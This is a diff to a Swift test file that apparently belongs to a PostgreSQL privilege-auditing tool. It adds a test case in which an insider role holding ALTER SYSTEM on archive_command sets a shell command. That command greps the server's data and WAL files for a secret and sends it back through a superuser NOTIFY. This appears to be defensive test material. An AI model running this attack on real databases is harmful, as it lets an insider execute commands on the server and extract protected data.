@@ -7,7 +7,10 @@ import Testing
 /// owned by `support_owner`, and a login role `mallory` who is the insider. `{canary}` in the
 /// SQL is replaced by the canary, `{writer}` in the attack by a shell command that has another
 /// role write every customer row, `{reader}` by one that keeps a query naming the canary running,
-/// `{agentReader}` by one where the login role `agent` reads the customers (row security applies).
+/// `{agentReader}` by one where the login role `agent` reads the customers (row security applies),
+/// `{superuser}` by the psql command line of the superuser (what the server's own operating-system
+/// user can run), `{reload}` by one that reloads the configuration and switches the WAL segment,
+/// as routine operations do (the servers run with `archive_mode=on`).
 struct CapabilityRoad: Sendable, CustomTestStringConvertible {
     var name: String
     /// The majors on which the road exists (and the attack can be run).
@@ -21,6 +24,9 @@ struct CapabilityRoad: Sendable, CustomTestStringConvertible {
     /// What the finding's cause must say (a fragment).
     var cause: String?
     var expectAttackWorks = true
+    /// Statements the superuser runs after the road, one at a time (ALTER SYSTEM cannot run in
+    /// a transaction block): what the road changed outside its database.
+    var cleanup: [String] = []
 
     var testDescription: String { name }
 
@@ -280,5 +286,16 @@ struct CapabilityRoad: Sendable, CustomTestStringConvertible {
                 SELECT l FROM loot;
                 """,
             capability: "server_files", cause: "pg_execute_server_program"),
+        CapabilityRoad(
+            name: "ALTER SYSTEM on archive_command (PostgreSQL 15+): the server runs the insider's command at the next reload",
+            setup: "GRANT ALTER SYSTEM ON PARAMETER archive_command TO mallory;",
+            attack: """
+                LISTEN loot;
+                ALTER SYSTEM SET archive_command = 'grep -a -o -h "cn7road[0-9]*z" base/*/* pg_wal/0* | head -n 1 | xargs -I@ {superuser} -c "NOTIFY loot, ''@''"; true';
+                \\! {reload}
+                SELECT 'delivered';
+                """,
+            capability: "alter_system", cause: "ALTER SYSTEM on archive_command granted to mallory",
+            cleanup: ["ALTER SYSTEM RESET archive_command", "SELECT pg_catalog.pg_reload_conf()"]),
     ]
 }
